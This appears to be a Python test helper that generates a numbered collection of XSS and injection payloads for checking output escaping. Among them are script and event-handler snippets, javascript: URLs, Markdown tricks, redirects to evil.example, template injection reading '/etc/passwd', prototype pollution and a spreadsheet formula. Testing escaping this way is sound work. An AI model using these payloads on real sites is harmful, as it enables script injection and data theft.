"""Two hundred and more texts that would run a script, change a page or lead away where one is not escaped.

Made from a grammar: what leaves the place where the text stands, and what acts once it is outside. Each
speaks its own number, so that a dialog says which one got through.
"""

from itertools import count

OUT = [
    "",
    '"',
    "'",
    "'\">",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "`",
    "]]>",
    "\\",
    "<1>",
]
"""Out of text, attributes of every quoting, comments, raw text, templates, CDATA, escapes and codes."""

ACTS = [
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT >",
    "<img src=x onerror=alert({n})>",
    "<img/src=`x`/onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert&#40;{n})</script></svg>",
    "<body onpageshow=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart=alert({n})>",
]

ALONE = [
    # handlers and addresses for a place inside a tag
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus=alert({n}) x="',
    "x onpointerenter=alert({n}) ",
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})//",
    "java\tscript:alert({n})",
    "\x01javascript:alert({n})",
    "&#106;avascript&colon;alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:alert({n})",
    "//evil.example/{n}",
    "/\\evil.example/{n}",
    "https:evil.example/{n}",
    # elements that act when they are used
    "<a href=javascript:alert({n})>x</a>",
    '<a href="java&#9;script:alert({n})">x</a>',
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<button formaction=javascript:alert({n}) form=step>x</button>",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><script>alert({n})</script></template>",
    "<svg><a xlink:href=javascript:alert({n})><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s></svg>",
    "<input type=hidden name=csrf value={n}>",
    # Markdown
    "[x](javascript:alert({n}))",
    "[x](<java\tscript:alert({n})>)",
    '![x](x "onerror=alert({n})")',
    '![x" onerror="alert({n})](x)',
    "<javascript:alert({n})>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{n}')",
    "`<script>alert({n})</script>`",
    "**<svg onload=alert({n})>**",
    # the notation of codes
    "<1>alert({n})",
    "</1><2/><9999/>{n}",
    "\\<1><img src=x onerror=alert({n})>\\</1>",
    "<1 onclick=alert({n})>x</1>",
    "<1/><1/><svg onload=alert({n})><2>",
    "<0><00><-1><1.5>{n}",
    "\u4dc0<img src=x onerror=alert({n})>\u4dd4",
    # templates, sentences with places, formulas
    "{{{{ {n} * 7 }}}}",
    "{{% include '/etc/passwd' %}}{n}",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "#{{alert({n})}}<%= {n} %>",
    "%(name)s %s %d %{n}",
    '=HYPERLINK("javascript:alert({n})")',
    # JSON and scripts
    '"}}]}};alert({n});//',
    "');alert({n});//",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "</script><!--<script>alert({n})//",
    "\u2028alert({n})//\u2029",
    '{{"__proto__":{{"x":"<img src=x onerror=alert({n})>"}}}}',
    # entities, once and twice
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "&#x3c;svg onload=alert({n})&#x3e;",
    "&NewLine;&Tab;<svg/onload=&#97lert({n})>",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    # direction
    "\u202e<img src=x onerror=alert({n})>\u202c",
    "\u2067<svg onload=alert({n})>",
    "\u200f<script>alert({n})</script>\u200f",
    "<plaintext>{n}",  # the last: nothing ends it
]

_number = count(1)
PAYLOADS: list[str] = [
    *(out + act.format(n=next(_number)) for out in OUT for act in ACTS),
    *(each.format(n=next(_number)) for each in ALONE),
]


def short(most: int) -> list[str]:
    """Those that a field of this many characters takes."""
    return [each for each in PAYLOADS if len(each) <= most]


def packed(most: int) -> list[str]:
    """All that fit, as few texts of at most this many characters."""
    made: list[str] = []
    for each in short(most):
        if made and len(made[-1]) + 1 + len(each) <= most:
            made[-1] += f" {each}"
        else:
            made.append(each)
    return made
